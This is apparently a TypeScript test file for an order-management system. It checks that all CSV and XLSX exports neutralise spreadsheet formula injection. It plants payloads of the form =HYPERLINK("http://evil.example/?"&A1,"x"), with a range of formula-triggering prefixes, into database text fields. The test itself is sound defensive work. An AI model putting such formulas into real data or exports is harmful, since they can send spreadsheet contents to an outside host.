import { randomUUID } from 'node:crypto'
import { text as textOf } from 'node:stream/consumers'
import type { EndpointName } from '@huoqiao/contract'
import { formatChinaDate } from '@huoqiao/kit'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { startOrderBench } from '../src/features/orders/orders.testing.ts'
import type { OrderBench } from '../src/features/orders/orders.testing.ts'
import { productFields } from '../src/features/products/product-fields.testing.ts'
import { openZip } from '../src/platform/zip-reader.ts'
import { exporting } from './exporting.ts'

/** Beginnings that a spreadsheet reads as a formula, or strips until a formula is left. */
const BEGINNINGS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\u0001=', '＝', '＋', '－', '＠']
const HOSTILE = BEGINNINGS.map((beginning) => `${beginning}HYPERLINK("http://evil.example/?"&A1,"x")`)
const begins = (text: string): boolean => BEGINNINGS.some((beginning) => text.startsWith(beginning[0]!))

let bench: OrderBench
beforeAll(async () => {
  bench = await startOrderBench()
  await soldAndBought()
  await plant()
})
afterAll(() => bench?.close())

const DAY_MS = 86_400_000
const DAYS = { from: formatChinaDate(Date.now() - DAY_MS), to: formatChinaDate(Date.now() + DAY_MS) }
const query = (sql: string, values: unknown[]): Promise<unknown> => bench.app.db.pool.query(sql, values)

/** An order line and a purchase for each text. */
async function soldAndBought(): Promise<void> {
  const { app } = bench
  // A different variant for each, since equal variants of several orders are stored once.
  const variants = (await bench.variants()).slice(0, HOSTILE.length)
  const orders = variants.map(({ variantId }) => bench.buy([{ variantId, quantity: 1 }]))
  const bought = await Promise.all(orders)
  await bench.pull()
  for (const order of bought) await bench.seen(order)
  const { offerId } = (await app.ok('keywordQuery', { keyword: '灯', pageSize: 1 })).list[0]!
  const { skus } = await app.ok('getOffer', { offerId })
  for (let nr = 0; nr < HOSTILE.length; nr++)
    await app.ok('createPurchaseOrder', {
      items: [{ offerId, skuId: skus[0]?.skuId ?? null, quantity: 50 }],
      key: randomUUID(),
    })
  await bench.quiet()
  // Reading analytics counts the new orders, which stores the names of their goods.
  await app.ok('getAnalytics', DAYS)
}

/** Written by SQL into every text column that people or other systems fill, since a call or a shop might trim the text. */
async function plant(): Promise<void> {
  for (const [nr, text] of HOSTILE.entries()) {
    const nth = (table: string): string => `(select id from ${table} order by id offset ${nr} limit 1)`
    await query(
      `update sold_item set title = $1::text, variant_title = $1::text, sku = $1::text where id =
         (select item_id from sales_order_line where id = ${nth('sales_order_line')})`,
      [text],
    )
    await query(
      `update sales_goods set product_name = $1::text, variant_name = $1::text, sku = $1::text, supplier_key = $1::text, supplier_name = $1::text,
         category = $1::text where id = ${nth('sales_goods')}`,
      [text],
    )
    await query(
      `update purchase_order set note = $1::text, message = $1::text, supplier_name = $1::text, address_name = $1::text, account_name = $1::text, created_by = $1::text
        where id = ${nth('purchase_order')}`,
      [text],
    )
    await query(
      `update purchase_line set title = $1::text, spec_text = $1::text, short_reason = $1::text, place = $1::text, spare = 5 where id = ${nth('purchase_line')}`,
      [text],
    )
    await query(
      `insert into reconciliation_difference (id, key, pass, subject, kind, "group", severity, weight, state, what, why, affects, next,
         objects, figures, facts, order_ids, purchase_ids, search_text, first_seen_at, last_seen_at, ignored_note)
       values ($2::uuid, $1::text, 'orders', '', 'unbought', 'order-purchase', 'urgent', 3, 'open', $1::text, $1::text, $1::text, $1::text,
         jsonb_build_array(jsonb_build_object('kind', 'order', 'id', $2::uuid::text, 'label', $1::text)),
         jsonb_build_array(jsonb_build_object('label', $1::text, 'ours', $1::text, 'theirs', 1, 'unit', 'text')), '', '{}', '{}', '',
         now(), now(), $1::text)`,
      [text, randomUUID()],
    )
    await query(
      `insert into login_log (id, at, user_account, ip, user_agent, outcome, message) values ($2::uuid, now(), $1::text, $1::text, $1::text, 'refused', $1::text)`,
      [text, randomUUID()],
    )
    await query(
      `insert into operation_log (id, at, account_name, ip, call, title, objects, object_keys, changes, outcome, message, duration_ms, request_id)
       values ($2::uuid, now(), $1::text, $1::text, $1::text, $1::text, jsonb_build_array(jsonb_build_object('kind', 'x', 'id', 'x', 'label', $1::text)), '{}',
         jsonb_build_array(jsonb_build_object('field', $1::text, 'before', $1::text, 'after', $1::text)), 'refused', $1::text, 1, $1::text)`,
      [text, randomUUID()],
    )
  }
}

/** A cell as it is in the file. `isText`: a spreadsheet displays it and does not evaluate it. */
type Raw = { text: string; isText: boolean }

const unescaped = (xml: string): string => xml.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&')
/** Numeric cells are left out: nobody can choose their first character. */
async function workbookCells(path: string): Promise<Raw[]> {
  const response = await fetch(`${bench.app.url}${path}`)
  expect(response.status).toBe(200)
  return cellsOf(Buffer.from(await response.arrayBuffer()))
}
async function cellsOf(workbook: Buffer): Promise<Raw[]> {
  const zip = await openZip(workbook, 10_000_000)
  const xml = await textOf(zip.part('xl/worksheets/sheet1.xml')!)
  // No formulas and no shared or string-result cells: then every cell is one of the two kinds below.
  expect(xml).not.toMatch(/<f[\s>/]|t="s"|t="str"/)
  return [...xml.matchAll(/<c r="[A-Z]+\d+"([^>]*)>(.*?)<\/c>/gs)].flatMap(([, attributes, inner]) => {
    if (/^<v>-?[\d.e+-]+<\/v>$/.test(inner!)) return []
    const text = unescaped(/^<is><t xml:space="preserve">(.*)<\/t><\/is>$/s.exec(inner!)![1]!)
    // The style marks it as text, so it stays text when somebody edits the cell and presses Enter.
    return [{ text, isText: attributes === ' t="inlineStr" s="1"' }]
  })
}
/** Parsed by RFC 4180. A cell that starts with our apostrophe is text to a spreadsheet. */
function csvCells(csv: string): Raw[] {
  const CELL = /"((?:[^"]|"")*)"(?:,|\r\n)/g
  expect(csv.slice(1).replaceAll(CELL, '')).toBe('')
  const cells = [...csv.slice(1).matchAll(CELL)].map(([, cell]) => cell!.replaceAll('""', '"'))
  return cells.map((cell) => ({ text: cell.replace(/^'/, ''), isText: !begins(cell) }))
}

const sheets: Partial<Record<EndpointName, () => Promise<Raw[]>>> = {
  exportOperationLog: async () => csvCells((await bench.app.ok('exportOperationLog', {})).csv),
  exportLoginLog: async () => csvCells((await bench.app.ok('exportLoginLog', {})).csv),
  exportPurchaseOrders: async () => workbookCells((await bench.app.ok('exportPurchaseOrders', { filter: {} })).url),
  exportDifferences: async () => workbookCells((await bench.app.ok('exportDifferences', { filter: {} })).url),
  exportAnalytics: analyticsSheets,
  exportSpares: async () => workbookCells((await bench.app.ok('exportSpares', {})).url),
  exportTranslations: translationSheet,
  exportShopifyOrderSkuInfo: orderSheet,
  downloadOrderExport: orderSheet,
}
async function analyticsSheets(): Promise<Raw[]> {
  const cells: Raw[] = []
  for (const group of ['product', 'variant', 'supplier', 'category'] as const)
    cells.push(...(await workbookCells((await bench.app.ok('exportAnalytics', { ...DAYS, group })).url)))
  return cells
}
async function translationSheet(): Promise<Raw[]> {
  const { app } = bench
  const productIds: string[] = []
  for (const text of HOSTILE) {
    const { id } = await app.ok('createProduct', productFields({ title: 'Lamp' }))
    await query('update product set title = $1::text where id = $2::uuid', [text, id])
    productIds.push(id)
  }
  const { version } = await app.ok('queryTranslationLanguages')
  await app.ok('saveTranslationLanguages', { locales: ['de'], version })
  const { content } = await app.ok('exportTranslations', { productIds, locale: 'de', format: 'xlsx' })
  return cellsOf(Buffer.from(content, 'base64'))
}
async function orderSheet(): Promise<Raw[]> {
  const task = await bench.app.ok('exportShopifyOrderSkuInfo', { orderIds: [], filter: {} })
  await bench.resolved(task)
  return workbookCells((await bench.app.ok('downloadOrderExport', { taskId: task.id })).url)
}

test('every call that exports is tested here', () => {
  expect(Object.keys(sheets).toSorted()).toEqual(exporting.toSorted())
})

test.each(exporting)('%s returns no cell that a spreadsheet would evaluate as a formula', async (name) => {
  const cells = await sheets[name]!()
  expect(cells.filter(({ text, isText }) => begins(text) && !isText)).toEqual([])
  // A workbook leaves out control characters that XML can't contain.
  const seen = new Set(cells.map(({ text }) => text.replace('\u0001', '')))
  expect(HOSTILE.filter((text) => !seen.has(text.replace('\u0001', '')))).toEqual([])
})
